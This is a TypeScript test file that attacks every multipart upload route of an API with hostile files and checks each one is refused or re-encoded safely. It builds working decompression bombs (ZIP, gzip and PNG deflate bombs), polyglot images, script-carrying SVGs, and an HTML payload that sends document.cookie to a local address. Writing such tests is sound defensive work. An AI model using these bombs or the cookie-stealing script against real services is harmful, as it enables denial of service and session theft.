import fs from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadOpenApi } from '../../src/http/openapi.js';
import { createTestApp, type TestApp, type TestOwner } from '../support/app.js';
import { expectError } from '../support/http.js';
import { createPost, makeImage, multipart, pngBomb } from '../support/uploads.js';

// Issue 45, as an attacker, on EVERY multipart upload route of the contract (found in
// openapi/openapi.yaml, so a new route is attacked as it is added; it needs a line in ROUTES
// saying how to make the resource it uploads to and how to see what it stored): decompression
// bombs, polyglots, wrong magic bytes and truncated files each answer a 4xx in the error shape,
// never a 5xx, nothing is stored, and the server answers on afterwards. (A valid image with
// other bytes after its end is refused where the contract says so, and on uploadPostImage taken
// and served re-encoded without them, as its contract says.)

interface Route {
  operationId: string;
  method: string;
  path: string;
  /** the multipart part the file goes in */
  part: string;
}

/** The contract's operations with a multipart/form-data request body, and their file part. */
function uploadRoutes(): Route[] {
  const spec = loadOpenApi();
  const routes: Route[] = [];
  for (const op of spec.operations) {
    const def = spec.document.paths[op.path][op.method.toLowerCase()];
    let body = def.requestBody;
    if (body?.$ref)
      body = body.$ref
        .slice(2)
        .split('/')
        .reduce((o: any, k: string) => o[k], spec.document);
    let schema = body?.content?.['multipart/form-data']?.schema;
    if (!schema) continue;
    if (schema.$ref)
      schema = schema.$ref
        .slice(2)
        .split('/')
        .reduce((o: any, k: string) => o[k], spec.document);
    const part = Object.entries<any>(schema.properties ?? {}).find(([, p]) => p.contentMediaType || p.format === 'binary')?.[0];
    if (!part) throw new Error(`${op.operationId}: no file part in its multipart schema`);
    routes.push({ operationId: op.operationId, method: op.method, path: op.path, part });
  }
  return routes;
}

/** How to reach each route for an owner: its path parameters, and what it stored (to see that nothing was). */
const ROUTES: Record<
  string,
  {
    params(t: TestApp, o: TestOwner): Promise<Record<string, string>>;
    stored(t: TestApp, o: TestOwner, params: Record<string, string>): Promise<unknown>;
    /**
     * what its contract says of a valid image carrying other bytes after its end: refused (400),
     * or taken and stored re-encoded from its pixels, so that the bytes riding along are never served
     */
    polyglots: 'refused' | 're-encoded';
    /** the stored file's URL, for a re-encoding route */
    servedUrl?(t: TestApp, o: TestOwner, params: Record<string, string>): Promise<string>;
  }
> = {
  uploadPostImage: {
    polyglots: 're-encoded',
    servedUrl: async (t, o, p) => (await t.app.inject({ method: 'GET', url: `/v1/posts/${p.id}`, headers: o.headers })).json().imageUrl,
    params: async (t, o) => ({ id: (await createPost(t, o)).id }),
    stored: async (t, o, p) => (await t.app.inject({ method: 'GET', url: `/v1/posts/${p.id}`, headers: o.headers })).json().imageUrl,
  },
  uploadMedia: {
    polyglots: 'refused',
    params: async () => ({}),
    stored: async (t, o) => (await t.app.inject({ method: 'GET', url: '/v1/media?limit=100', headers: o.headers })).json().total,
  },
};

/** A minimal ZIP whose one entry inflates 64 MiB of zeros from a few tens of KiB (a zip bomb). */
function zipBomb(): Buffer {
  const raw = Buffer.alloc(64 * 1024 * 1024);
  const deflated = zlib.deflateRawSync(raw, { level: 9 });
  const name = Buffer.from('zeros.png');
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8); // deflate
  head.writeUInt32LE(zlib.crc32(raw) >>> 0, 14);
  head.writeUInt32LE(deflated.length, 18);
  head.writeUInt32LE(raw.length, 22);
  head.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([head, name, deflated, end]);
}

/** A PNG chunk (length, type, data, CRC). */
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

/** A PNG whose IDAT inflates to far more than its IHDR's pixels: a deflate bomb inside a valid-looking image. */
async function pngDeflateBomb(): Promise<Buffer> {
  const png = Buffer.from(await makeImage.png(1, 1));
  const ihdr = png.subarray(8, 33);
  return Buffer.concat([png.subarray(0, 8), ihdr, chunk('IDAT', zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024))), chunk('IEND', Buffer.alloc(0))]);
}

const HTML = '<html><body><script>fetch("http://127.0.0.1:9/?c="+document.cookie)</script></body></html>';

interface Attack {
  what: string;
  /** a valid image with other bytes after its end (ROUTES says what each route does with one) */
  polyglot?: true;
  file: () => Promise<Buffer>;
  filename: string;
  type: string;
}

const ATTACKS: Attack[] = [
  { what: 'a PNG whose header declares 100000 × 100000 pixels', file: () => pngBomb(100_000, 100_000), filename: 'bomb.png', type: 'image/png' },
  { what: 'a PNG whose header declares 16384 × 16384 pixels (under the side limit, over the pixel limit)', file: () => pngBomb(16_384, 16_384), filename: 'big.png', type: 'image/png' },
  { what: 'a PNG of 1 pixel whose pixel data inflates to 64 MiB', file: pngDeflateBomb, filename: 'deflate.png', type: 'image/png' },
  { what: 'a ZIP bomb named .png', file: async () => zipBomb(), filename: 'photo.png', type: 'image/png' },
  { what: 'a gzip bomb declared as an image', file: async () => zlib.gzipSync(Buffer.alloc(64 * 1024 * 1024)), filename: 'photo.webp', type: 'image/webp' },
  { what: 'a PNG with an HTML page and script after its end (PNG+HTML polyglot)', polyglot: true, file: async () => Buffer.concat([await makeImage.png(), Buffer.from(HTML)]), filename: 'photo.png', type: 'image/png' },
  { what: 'an HTML page with a PNG after it (HTML+PNG polyglot)', file: async () => Buffer.concat([Buffer.from(HTML), await makeImage.png()]), filename: 'photo.png', type: 'image/png' },
  { what: 'a PNG with a ZIP after its end (PNG+ZIP polyglot)', polyglot: true, file: async () => Buffer.concat([await makeImage.png(), zipBomb()]), filename: 'photo.png', type: 'image/png' },
  { what: 'an SVG with a script', file: async () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>`), filename: 'logo.svg', type: 'image/svg+xml' },
  { what: 'an SVG with a script declared as PNG', file: async () => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), filename: 'logo.png', type: 'image/png' },
  { what: 'an HTML page declared as PNG (wrong magic bytes)', file: async () => Buffer.from(HTML), filename: 'photo.png', type: 'image/png' },
  { what: 'an ELF executable declared as an MP4 clip (wrong magic bytes)', file: async () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]), filename: 'clip.mp4', type: 'video/mp4' },
  { what: 'a PNG signature with nothing after it', file: async () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), filename: 'photo.png', type: 'image/png' },
  { what: 'a PNG truncated in its pixel data', file: async () => (await makeImage.noisyPng(200, 200)).subarray(0, 5000), filename: 'photo.png', type: 'image/png' },
  { what: 'a JPEG truncated after its header', file: async () => (await makeImage.jpg(200, 200)).subarray(0, 400), filename: 'photo.jpg', type: 'image/jpeg' },
  { what: 'an empty file', file: async () => Buffer.alloc(0), filename: 'photo.png', type: 'image/png' },
];

let t: TestApp;
let owner: TestOwner;
const routes = uploadRoutes();

/** Every file under the data directory (where the media store keeps what it stores). */
async function storedFiles(dir: string): Promise<string[]> {
  const out: string[] = [];
  const walk = async (d: string) => {
    for (const e of await fs.readdir(d, { withFileTypes: true }).catch(() => [])) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) await walk(p);
      else out.push(p);
    }
  };
  await walk(dir);
  return out.sort();
}

beforeAll(async () => {
  t = await createTestApp();
  owner = await t.owner();
});
afterAll(() => t?.close());

describe('upload attacks on every multipart route of the contract', () => {
  it('finds the upload routes in the document, and each has a line in ROUTES', () => {
    expect(routes.map((r) => r.operationId)).toEqual(expect.arrayContaining(['uploadPostImage', 'uploadMedia']));
    for (const r of routes) expect(ROUTES[r.operationId], `add ${r.operationId} to ROUTES in test/http/upload-attacks.test.ts`).toBeDefined();
  });

  for (const route of routes) {
    describe(route.operationId, () => {
      for (const attack of ATTACKS) {
        it(`${attack.what}: 4xx in the error shape, nothing stored`, { timeout: 60_000 }, async () => {
          const setup = ROUTES[route.operationId]!;
          const params = await setup.params(t, owner);
          const url = route.path.replace(/\{([^}]+)\}/g, (_, name: string) => params[name]!);
          const before = { stored: await setup.stored(t, owner, params), files: await storedFiles(t.config.dataDir) };
          const { payload, headers } = multipart([{ name: route.part, data: await attack.file(), filename: attack.filename, type: attack.type }]);
          const res = await t.app.inject({ method: route.method as 'POST', url, headers: { ...owner.headers, ...headers }, payload });
          if (attack.polyglot && setup.polyglots === 're-encoded') {
            // taken, and what is served is the picture alone, re-encoded: none of the bytes riding along
            expect([200, 201], res.body).toContain(res.statusCode);
            const served = await t.app.inject({ method: 'GET', url: await setup.servedUrl!(t, owner, params), headers: owner.headers });
            expect(served.statusCode).toBe(200);
            expect(served.headers['content-type']).toBe('image/png');
            expect(served.rawPayload.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
            for (const marker of ['<html', '<script', 'PK\u0003\u0004', 'PK\u0005\u0006']) expect(served.rawPayload.includes(Buffer.from(marker, 'latin1')), marker).toBe(false);
            expect(served.rawPayload.length).toBeLessThan((await attack.file()).length);
            return;
          }
          expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
          expect(res.statusCode, res.body).toBeLessThan(500);
          expectError(res, res.statusCode, res.statusCode === 413 ? 'payload_too_large' : 'validation_failed');
          expect(await setup.stored(t, owner, params)).toEqual(before.stored);
          expect(await storedFiles(t.config.dataDir)).toEqual(before.files);
        });
      }

      it('the server answers on: a real image is then taken', { timeout: 60_000 }, async () => {
        const setup = ROUTES[route.operationId]!;
        const params = await setup.params(t, owner);
        const url = route.path.replace(/\{([^}]+)\}/g, (_, name: string) => params[name]!);
        const { payload, headers } = multipart([{ name: route.part, data: await makeImage.png(), filename: 'photo.png', type: 'image/png' }]);
        const res = await t.app.inject({ method: route.method as 'POST', url, headers: { ...owner.headers, ...headers }, payload });
        expect([200, 201], res.body).toContain(res.statusCode);
        expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
      });
    });
  }
});
